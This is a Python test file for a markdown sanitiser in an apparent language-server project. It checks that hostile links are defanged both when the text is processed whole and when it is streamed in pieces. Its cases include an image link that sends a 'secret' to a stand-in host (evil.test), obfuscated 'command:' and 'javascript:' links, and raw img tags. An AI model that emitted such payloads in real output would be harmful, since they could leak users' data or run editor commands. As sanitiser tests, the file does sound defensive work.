"""Markdown made safe, whole and in pieces."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from qwen_lsp.features.markdown import SafeMarkdown, code_span, fenced, safe_markdown

CASES = [
    ("plain *text* with `code` and a < b", "plain *text* with `code` and a < b"),
    ("![pixel](https://evil.test/?q=secret)", "[pixel](https://evil.test/?q=secret)"),
    ("[run](command:workbench.action.quit)", "[run](#)"),
    ("[run]( <command:x> )", "[run]( <#> )"),
    ("[run](\ncommand:x)", "[run](\n#)"),
    ("[run](&#99;ommand:x)", "[run](#)"),
    ("[run](java\\script:x)", "[run](#)"),
    ("[a]: command:x", "[a]: #"),
    (
        "[doc](https://example.com/a:b) [file](src/a.py#L3)",
        "[doc](https://example.com/a:b) [file](src/a.py#L3)",
    ),
    ("<img src=x> <b>", "&lt;img src=x> <b>"),
    ("<command:x>", "&lt;command:x>"),
    ("<https://example.com>", "<https://example.com>"),
    ("`vector<std::string>` and `List<int>`", "`vector<std::string>` and `List<int>`"),
    ("```md\n![x](y)\n<img>\n```\n![x](y)", "```md\n![x](y)\n<img>\n```\n[x](y)"),
    ("- a\n  ```\n  ![x](y)\n", "- a\n  ```\n  [x](y)\n"),
    ("```a`b\n![x](y)", "```a`b\n[x](y)"),
    ("done!", "done!"),
    ("a[i]", "a[i]"),
]


@pytest.mark.parametrize(("text", "safe"), CASES)
def test_whole(text: str, safe: str) -> None:
    assert safe_markdown(text) == safe


@pytest.mark.parametrize(("text", "safe"), CASES)
def test_every_split_in_two_and_one_character_at_a_time(text: str, safe: str) -> None:
    for cut in range(len(text) + 1):
        stream = SafeMarkdown()
        assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.finish() == safe
    stream = SafeMarkdown()
    assert "".join(stream.feed(char) for char in text) + stream.finish() == safe


@settings(deadline=None, derandomize=True)
@given(st.text(alphabet="![](<>:`~\n acommand/.&#\\", max_size=60), st.integers(1, 7))
def test_pieces_say_what_the_whole_says(text: str, size: int) -> None:
    stream = SafeMarkdown()
    pieces = [stream.feed(text[i : i + size]) for i in range(0, len(text), size)]
    assert "".join(pieces) + stream.finish() == safe_markdown(text)


def test_text_in_code_keeps_its_backticks() -> None:
    assert code_span("a`b") == "``a`b``"
    assert code_span("`a`") == "`` `a` ``"
    assert fenced("x\n```\ny", "md").startswith("````md\n")
